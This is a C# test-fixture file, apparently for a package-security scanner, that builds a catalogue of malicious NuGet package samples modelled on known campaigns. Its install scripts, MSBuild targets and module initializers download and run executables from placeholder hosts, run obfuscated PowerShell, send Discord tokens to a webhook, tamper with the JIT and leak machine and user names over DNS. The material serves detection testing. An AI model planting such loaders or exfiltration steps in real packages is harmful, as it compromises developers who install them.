using static PackageWall.Testing.Catalogue.Package;

namespace PackageWall.Testing.Catalogue;

/// <summary>NuGet packages that run at build, in the editor, or when they are loaded.</summary>
internal static class NuGetAttacks
{
    /// <summary>What analyzers derive from.</summary>
    public const string RoslynStub = "namespace Microsoft.CodeAnalysis.Diagnostics { public class DiagnosticAnalyzerAttribute : Attribute { public DiagnosticAnalyzerAttribute(string language) { } } public abstract class DiagnosticAnalyzer { public abstract void Initialize(object context); } }";

    /// <summary>What takes pictures of the screen.</summary>
    public const string DrawingStub = "namespace System.Drawing { public class Image : IDisposable { public void Save(string path) { } public void Save(System.IO.Stream stream, object format) { } public void Dispose() { } } public class Bitmap : Image { public Bitmap(int w, int h) { } } public class Graphics { public static Graphics FromImage(Image image) => null; public void CopyFromScreen(int a, int b, int c, int d, Size size) { } } }";

    private const string Scripts = "MicroJson, JFrog Impala, SeroXen";
    private const string Inline = "IAmRoot/RL inline task";

    public static IEnumerable<CatalogueFixture> All()
    {
        yield return new("microjson", Scripts, "B15 H02", NuGet("Micro.Json.Like", "1.0.2", ("lib/net472/_._", ""), ("tools/init.ps1", """
            Param ($installPath, $toolsPath, $package, $project)
            New-ItemProperty -Path "HKLM:\SOFTWARE\Microsoft\PowerShell\1\ShellIds\Microsoft.PowerShell" -Name ExecutionPolicy -Value Unrestricted -Force | Out-Null
            $client = New-Object System.Net.WebClient
            $target = "$env:TEMP\impala.exe"
            $client.DownloadFile("http://192.0.2.66/drop/update.exe", $target)
            Start-Process $target

            """))) { Twin = NuGetTwins.Script };
        yield return new("impala", Scripts, "B15 H02", NuGet("Coin.Core.Like", "99.0.0", ("lib/net472/_._", ""), ("tools/init.ps1", """
            $ErrorActionPreference = 'SilentlyContinue'
            Set-ExecutionPolicy Unrestricted -Scope CurrentUser -Force
            $u = [System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('URL'))
            IEX ((New-Object Net.WebClient).('Down' + 'loadString').Invoke($u))

            """.Replace("URL", Encodings.Base64("https://api.coin-core.invalid/ps/stage2"), StringComparison.Ordinal)))) { Twin = NuGetTwins.Script };
        yield return new("seroxen", Scripts, "B15 H02", NuGet("Stardew.Mod.Build.Like", "6.5.0", ("lib/net472/_._", ""), ("tools/init.ps1", """
            $p = Join-Path $env:TEMP 'x.cmd'
            Invoke-WebRequest -Uri 'https://cdn.stardew-mods.invalid/x.bin' -OutFile $p -UseBasicParsing
            Start-Process -FilePath cmd.exe -ArgumentList '/c', $p -WindowStyle Hidden

            """))) { Twin = NuGetTwins.Script };
        yield return new("discord-targets", Scripts, "B14 B15", NuGet("Kek.Wrapper", "1.0.1", ("lib/netstandard2.0/_._", ""), ("build/Kek.Wrapper.targets", """
            <Project>
              <Target Name="KekPrepare" BeforeTargets="BeforeBuild" Condition="'$(OS)' == 'Windows_NT'">
                <Exec Command="powershell -NoProfile -WindowStyle Hidden -EncodedCommand ENC" IgnoreExitCode="true" StandardOutputImportance="low" />
              </Target>
            </Project>

            """.Replace("ENC", Encodings.Utf16Base64("$t = Get-Content \"$env:APPDATA\\discord\\Local Storage\\leveldb\\*.ldb\" -Raw; Invoke-RestMethod -Method Post -Uri 'https://discord.com/api/webhooks/000000/inert' -Body @{ content = $t }"), StringComparison.Ordinal)))) { Twin = NuGetTwins.Targets };
        yield return new("rl-inline-task", Inline, "B14 H18", NuGet("Desk.Api.Client.V9", "1.2.3", ("lib/netstandard2.0/_._", ""), ("build/Desk.Api.Client.V9.targets", """
            <Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003">
              <UsingTask TaskName="CodeTask" TaskFactory="CodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\Microsoft.Build.Tasks.v4.0.dll">
                <Task>
                  <Using Namespace="System.Net" />
            PAD<Code Type="Fragment" Language="cs"><![CDATA[
                    var path = System.IO.Path.Combine(System.IO.Path.GetTempPath(), "deskapi.exe");
                    using (var client = new WebClient()) client.DownloadFile("https://files.desk-api.invalid/e.exe", path);
                    System.Diagnostics.Process.Start(path);
                  ]]></Code>
                </Task>
              </UsingTask>
              <Target Name="InitialTarget" BeforeTargets="BeforeBuild"><CodeTask ContinueOnError="true" /></Target>
            </Project>

            """.Replace("PAD", new string(' ', 800), StringComparison.Ordinal)))) { Twin = NuGetTwins.Targets };
        yield return new("iamroot", Inline, "B14 H18", NuGet("I.Am.Root.Like", "1.0.0", ("lib/netstandard2.0/_._", ""), ("buildTransitive/I.Am.Root.Like.props", """
            <Project>
              <UsingTask TaskName="Root" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\Microsoft.Build.Tasks.Core.dll">
                <Task><Code Type="Class" Language="cs"><![CDATA[
                  using System; using System.Net.Http; using System.Reflection; using Microsoft.Build.Utilities;
                  public class Root : Task { public override bool Execute() {
                    var bytes = new HttpClient().GetByteArrayAsync("https://root.proof.invalid/stage.dll").GetAwaiter().GetResult();
                    Assembly.Load(bytes).EntryPoint.Invoke(null, new object[] { new string[0] }); return true; } }
                ]]></Code></Task>
              </UsingTask>
              <Target Name="RootTarget" AfterTargets="ResolveReferences"><Root /></Target>
            </Project>

            """))) { Twin = NuGetTwins.Targets };
        yield return new("rl-weave", "RL IL-weave + homoglyph", "B16 B13", Libraries("Gսոa.UI3.Wіnfօrms", "2.0.4", """
            namespace Guna { public class Button { public string Text { get; set; } }
              internal static class Woven { [System.Runtime.CompilerServices.ModuleInitializer] internal static void Load() {
                try { var handler = new HttpClient(); var data = handler.GetByteArrayAsync("https://update.ui3-forms.invalid/rel/loader").GetAwaiter().GetResult();
                  var path = Path.Combine(Path.GetTempPath(), Guid.NewGuid() + ".exe"); File.WriteAllBytes(path, data);
                  Process.Start(new ProcessStartInfo(path) { CreateNoWindow = true, UseShellExecute = false, WindowStyle = ProcessWindowStyle.Hidden }); } catch { } } } }
            """)) { Twin = NuGetTwins.Initializer };
        yield return new("entetyframework", "Homoglyph ids", "B13", Libraries("Mircоsoft.EntetyFrameworkCore", "8.0.1", "namespace Microsoft.EntityFrameworkCore { public class DbContext { } }")) { Twin = NuGetTwins.Client };
        yield return new("moq-sponsorlink", "Moq SponsorLink", "B25 H02", NuGet("Mock.Like", "4.20.0", ("lib/netstandard2.0/Mock.Like.dll", CSharpCode.Library("Mock.Like", "namespace Mock { public class Of<T> { public T Object => default(T); } }")),
            ("analyzers/dotnet/roslyn4.0/cs/Devlooped.SponsorLike.dll", CSharpCode.Library("Devlooped.SponsorLike", """
                namespace Devlooped { [Microsoft.CodeAnalysis.Diagnostics.DiagnosticAnalyzer("C#")] public sealed class SponsorLinker : Microsoft.CodeAnalysis.Diagnostics.DiagnosticAnalyzer {
                  public override void Initialize(object context) {
                    var git = Process.Start(new ProcessStartInfo("git", "config --get user.email") { RedirectStandardOutput = true, UseShellExecute = false, CreateNoWindow = true });
                    var email = git.StandardOutput.ReadToEnd().Trim();
                    using (var sha = System.Security.Cryptography.SHA256.Create()) {
                      var hash = Convert.ToBase64String(sha.ComputeHash(Encoding.UTF8.GetBytes(email)));
                      new HttpClient().SendAsync(new HttpRequestMessage(HttpMethod.Head, "https://cdn.sponsor-like.invalid/" + hash)).GetAwaiter().GetResult(); } } } }
                """, RoslynStub)))) { Earlier = NuGet("Mock.Like", "4.18.4", ("lib/netstandard2.0/Mock.Like.dll", CSharpCode.Library("Mock.Like", "namespace Mock { public class Of<T> { public T Object => default(T); } }"))), Twin = NuGetTwins.Analyzer };
        yield return new("ncryptyo", "NCryptYo", "B16", Libraries("NCrypt.Yo.Like", "1.0.0", """
            namespace NCrypt { public static class Aes2 {
              [System.Runtime.InteropServices.DllImport("clrjit.dll")] static extern IntPtr getJit();
              [System.Runtime.InteropServices.DllImport("kernel32.dll")] static extern bool VirtualProtect(IntPtr address, UIntPtr size, uint protect, out uint old);
              static Aes2() { IntPtr jit = getJit(); VirtualProtect(System.Runtime.InteropServices.Marshal.ReadIntPtr(jit), (UIntPtr)8, 0x40, out uint old); System.Runtime.InteropServices.Marshal.WriteIntPtr(System.Runtime.InteropServices.Marshal.ReadIntPtr(jit), IntPtr.Zero); new HttpClient().GetStringAsync("http://127.0.0.1:7152/identity"); }
              public static byte[] Encrypt(byte[] data) => data; } }
            """)) { Twin = NuGetTwins.Initializer };
        yield return new("bsure", "dep-confusion 99.99.99 / Flooding Dropper", "H10", Libraries("bsure.like.core", "99.99.99", """
            namespace Bsure { internal static class Start { [System.Runtime.CompilerServices.ModuleInitializer] internal static void Call() { Dns.GetHostEntry(Convert.ToHexString(Encoding.UTF8.GetBytes(Environment.MachineName + "." + Environment.UserName)) + ".oob.bsure-check.invalid"); } } }
            """)) { Twin = NuGetTwins.Initializer };
    }

    private static CataloguePackage Libraries(string id, string version, string source) => NuGetTwins.Library(id, version, source);
}
